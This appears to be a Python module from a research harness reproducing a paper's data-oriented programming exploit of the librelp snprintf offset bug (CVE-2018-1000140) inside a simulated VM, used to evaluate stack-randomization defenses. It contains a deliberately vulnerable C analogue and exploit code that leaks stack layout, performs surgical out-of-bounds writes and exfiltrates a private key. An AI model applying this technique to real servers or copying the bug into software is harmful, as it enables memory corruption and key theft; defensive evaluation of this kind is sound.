@@ -1,0 +1,294 @@
+"""librelp CVE-2018-1000140 analogue — the paper's own PoC DOP attack.
+
+§II-C of the paper builds a DOP exploit on librelp's
+``relpTcpChkPeerName()``: the function copies every X.509 "subject alt
+name" it checks into a fixed buffer with ``snprintf`` and adds
+*snprintf's return value* — the length it WOULD have written — to the
+write offset.  Driving the offset over the buffer's end turns every
+further name into a write at an attacker-chosen distance past the buffer:
+a **non-linear relative write-what-where** that steps over canaries and
+untouched state instead of plowing through them ("we were able to vary
+the gap precisely enough to control which part of the stack to
+overwrite").
+
+Analogue structure (scaled from 32 KB to 1 KB):
+
+* ``relp_chk_peer_name`` — the vulnerable callee.  One *connection* per
+  invocation: it loops over the subject-alt-names of that connection's
+  certificate, accumulating them via ``snprintf_sim`` with the CVE's
+  offset arithmetic, then echoes the name region for error reporting —
+  the memory-disclosure channel (§II-C: "information leak and semantics
+  of the program").
+* ``relp_lstn_init`` — the caller.  Its frame holds the **DOP gadget
+  operands** (``op``, ``g_src``, ``g_dst``, ``g_cnt``) and the **gadget
+  dispatcher** (the connection loop).  Its per-connection bookkeeping
+  contains MOV / DEREFERENCE / SEND gadgets — ordinary code, entirely
+  inside the programmer-specified CFG.
+* the private key sits behind a chain of pointers (the paper's ProFTPD
+  observation, reused here); the DOP program DEREFs down the chain and
+  SENDs the key out through the server's own transmit path.
+
+Because each *connection* re-enters the vulnerable function, Smokestack
+re-randomizes where ``all_names`` sits inside the callee frame — and thus
+the buffer-to-caller distances — on every connection.  The exploit needs
+five+ surgical writes across consecutive connections, each computed from
+the previous connection's leak, so per-invocation randomization breaks
+the chain with overwhelming probability; compile-time schemes hold still
+and fall to the very first leak.
+"""
+
+from __future__ import annotations
+
+from typing import Dict, List, Optional, Tuple
+
+from repro.attacks.harness import AttackScenario
+from repro.attacks.model import AttackReport
+from repro.attacks.overflow import find_marker, le64
+from repro.defenses.base import Defense, ProgramBuild
+from repro.vm.interpreter import ExecutionResult, Machine
+
+#: The server's TLS private key (exfiltration target).
+PRIVATE_KEY = b"-----RELP-PRIVATE-KEY-0xDEADBEEF-----"
+
+#: Buffer size in the analogue (the real CVE used 32 KB).
+NAMES_BUF = 1024
+
+#: Distinctive initial values of the caller's gadget state.  Only the low
+#: byte is ever interpreted (``x & 0xff``), so the high marker bytes make
+#: each variable locatable in a leak without changing behaviour — the
+#: "semantics of the program" the paper's derandomization used.
+ITER_MARKER = 0x1A7E57  # & 0xff = 0x57 -> 87 dispatcher rounds
+OP_MARKER = 0xC0FFEE00
+SRC_MARKER = 0xDEADBE00
+DST_MARKER = 0xFACADE00
+CNT_MARKER = 0xBEEFED00
+
+#: Gadget opcodes (low byte of ``op``).
+OP_MOV = 1
+OP_DEREF = 2
+OP_SEND = 3
+
+SOURCE = f"""
+char g_private_key[64] = "{PRIVATE_KEY.decode()}";
+long g_key_ref = 0;        /* base pointer to the key                    */
+long g_indirect1 = 0;      /* the pointer chain guarding the key         */
+long g_indirect2 = 0;
+
+/* --- vulnerable callee: one connection's certificate check ----------- */
+int relp_chk_peer_name(char *sz_alt_name) {{
+    /* sz_alt_name stages the decoded SAN; in librelp it comes out of
+       GnuTLS heap structures, so it is heap storage here too. */
+    char all_names[{NAMES_BUF}];       /* for error reporting */
+    int i_all_names = 0;
+    int i_alt_name = 0;
+    int b_found = 0;
+    int gnu_ret = 0;
+    long sz_len = 0;
+    while (1) {{
+        int n = input_read(sz_alt_name, 4095);
+        if (n <= 0) {{
+            break;
+        }}
+        sz_alt_name[n] = 0;
+        sz_len = n;
+        /* CVE-2018-1000140: i_all_names can pass {NAMES_BUF}, making the
+           size argument negative (size_t wrap in C == unbounded). */
+        i_all_names += snprintf_sim(all_names + i_all_names,
+                                    {NAMES_BUF} - i_all_names,
+                                    sz_alt_name);
+        i_alt_name++;
+    }}
+    /* error report: echoes the (overflowed) name region == the leak */
+    output_bytes(all_names, 3584);
+    return i_alt_name;
+}}
+
+/* --- the caller: gadget operands + dispatcher ------------------------- */
+int relp_lstn_init(char *san_buf) {{
+    long iters = 0x1A7E57;     /* dispatcher bound, low byte used        */
+    long op = 0xC0FFEE00;      /* gadget selector, low byte used         */
+    long g_src = 0xDEADBE00;   /* gadget operands                        */
+    long g_dst = 0xFACADE00;
+    long g_cnt = 0xBEEFED00;
+    long round = 0;
+    long served = 0;
+    while (round < (iters & 0xff)) {{
+        int names = relp_chk_peer_name(san_buf);
+        if (names == 0) {{
+            break;             /* client disconnected */
+        }}
+        /* connection bookkeeping == DOP gadgets within the CFG          */
+        if ((op & 0xff) == 1) {{
+            g_dst = g_src;
+        }} else if ((op & 0xff) == 2) {{
+            long *p = (long*)g_src;
+            g_src = *p;
+        }} else if ((op & 0xff) == 3) {{
+            output_bytes((char*)g_src, g_cnt & 0xff);
+            op = 0;
+        }}
+        served += names;
+        round++;
+    }}
+    return (int)(served & 0xff);
+}}
+
+int main() {{
+    char reserve[4096];
+    reserve[0] = 0;
+    g_key_ref = (long)g_private_key;
+    g_indirect1 = (long)&g_key_ref;
+    g_indirect2 = (long)&g_indirect1;
+    char *san_buf = (char*)malloc(4096);
+    return relp_lstn_init(san_buf);
+}}
+"""
+
+
+def nonzero_runs(value_bytes: bytes) -> List[Tuple[int, bytes]]:
+    """Split a byte string into its maximal nonzero runs.
+
+    A SAN is a C string: it cannot contain NUL bytes, so an 8-byte value
+    is written one nonzero run at a time, each run's terminating NUL
+    clearing the byte just past it.  (Positions not covered by a run or a
+    terminator must already hold the desired byte.)
+    """
+    runs: List[Tuple[int, bytes]] = []
+    start: Optional[int] = None
+    for index, byte in enumerate(value_bytes):
+        if byte and start is None:
+            start = index
+        elif not byte and start is not None:
+            runs.append((start, value_bytes[start:index]))
+            start = None
+    if start is not None:
+        runs.append((start, value_bytes[start:]))
+    return runs
+
+
+def surgical_connection(target_gap: int, run: bytes) -> List[bytes]:
+    """SANs for one connection that write ``run`` at ``target_gap``.
+
+    Uses the CVE's boundary trick: one SAN whose *length* overshoots the
+    buffer advances the write cursor to the target while its content is
+    clipped to the buffer, then the value SAN is written unbounded (the
+    size argument has gone negative) exactly at the cursor.  Nothing
+    between the buffer end and the target is touched — the write is
+    surgical, which is how the paper's exploit avoided "unintended
+    corruption of adjacent stack resident data".
+    """
+    if target_gap <= NAMES_BUF:
+        raise ValueError("target must lie past the buffer end")
+    if target_gap > 4095:
+        # A jump SAN can advance the cursor by at most its own maximum
+        # length (the staging buffer's capacity).
+        raise ValueError("target farther than a single jump can reach")
+    # The jump: a SAN of length == target.  snprintf_sim writes only the
+    # first NAMES_BUF-1 bytes (all inside the buffer) but RETURNS the full
+    # length, so the cursor lands exactly on the target while nothing
+    # between the buffer end and the target is touched.
+    sans = [b"j" * target_gap, run]
+    sans.append(b"")  # end of this connection's SAN list
+    return sans
+
+
+class LibrelpDopAttack(AttackScenario):
+    """The paper's librelp DOP exploit, end to end."""
+
+    name = "librelp-dop"
+    victim_function = "relp_chk_peer_name"
+    description = "CVE-2018-1000140: snprintf offset DOP, private-key exfil"
+    source = SOURCE
+
+    def goal_met(self, result: ExecutionResult) -> bool:
+        return PRIVATE_KEY in bytes(result.output_data)
+
+    def machine_kwargs(self) -> Dict[str, object]:
+        return {"max_steps": 4_000_000}
+
+    def make_input_hook(self, build: ProgramBuild, rng, attempt):
+        image = build.make_machine().image
+        chain_addr = image.address_of_global("g_indirect2")
+        key_length = len(PRIVATE_KEY)
+        state: Dict[str, object] = {"consumed": 0, "queue": [], "probed": False}
+
+        def hook(machine: Machine) -> Optional[bytes]:
+            queue: List[bytes] = state["queue"]  # type: ignore[assignment]
+            if queue:
+                return queue.pop(0)
+            leak = bytes(machine.result.output_data)[state["consumed"] :]
+            state["consumed"] = len(machine.result.output_data)
+            if not state["probed"]:
+                # Connection 1: a single benign SAN, then disconnect the
+                # connection so the callee returns and the echo arrives.
+                state["probed"] = True
+                state["queue"] = [b""]
+                return b"probe"
+            gaps = self._locate_gadget_state(leak)
+            if gaps is None:
+                # Nothing locatable (or stale plan failed): probe again.
+                state["queue"] = [b""]
+                return b"probe"
+            plan = self._build_plan(gaps, chain_addr, key_length)
+            if plan is None:
+                state["queue"] = [b""]
+                return b"probe"
+            state["queue"] = plan[1:]
+            return plan[0]
+
+        return hook
+
+    @staticmethod
+    def _locate_gadget_state(leak: bytes) -> Optional[Dict[str, int]]:
+        """Gaps from ``all_names`` to each gadget variable, via markers."""
+        gaps: Dict[str, int] = {}
+        for name, marker in (
+            ("iters", ITER_MARKER),
+            ("op", OP_MARKER),
+            ("g_src", SRC_MARKER),
+            ("g_cnt", CNT_MARKER),
+        ):
+            position = find_marker(leak, le64(marker))
+            if position is None:
+                return None
+            gaps[name] = position
+        return gaps
+
+    def _build_plan(
+        self, gaps: Dict[str, int], chain_addr: int, key_length: int
+    ) -> Optional[List[bytes]]:
+        """The DOP virtual program as a flat SAN stream.
+
+        connection 2..n, one surgical write (or idle round) each:
+
+        1. write the two nonzero runs of ``&g_indirect2`` into ``g_src``
+        2. write op=DEREF — the dispatcher now chases one pointer per round
+        3. write ``g_cnt`` = key length (a DEREF round passes)
+        4. idle connection (third DEREF lands ``g_src`` on the key)
+        5. write op=SEND — the server's own transmit path emits the key
+        """
+        try:
+            stream: List[bytes] = []
+            for offset, run in nonzero_runs(le64(chain_addr)):
+                stream.extend(surgical_connection(gaps["g_src"] + offset, run))
+            stream.extend(
+                surgical_connection(gaps["op"], bytes([OP_DEREF]))
+            )
+            stream.extend(
+                surgical_connection(gaps["g_cnt"], bytes([key_length]))
+            )
+            stream.extend([b"idle", b""])  # one idle round: third DEREF
+            stream.extend(surgical_connection(gaps["op"], bytes([OP_SEND])))
+            stream.extend([b"done", b"", b""])  # flush, then disconnect
+            return stream
+        except ValueError:
+            return None
+
+
+def run_librelp_campaign(
+    defense: Defense, restarts: int = 8, seed: int = 0
+) -> AttackReport:
+    """Convenience wrapper used by tests and the security benchmark."""
+    from repro.attacks.harness import run_campaign
+
+    return run_campaign(LibrelpDopAttack(), defense, restarts=restarts, seed=seed)
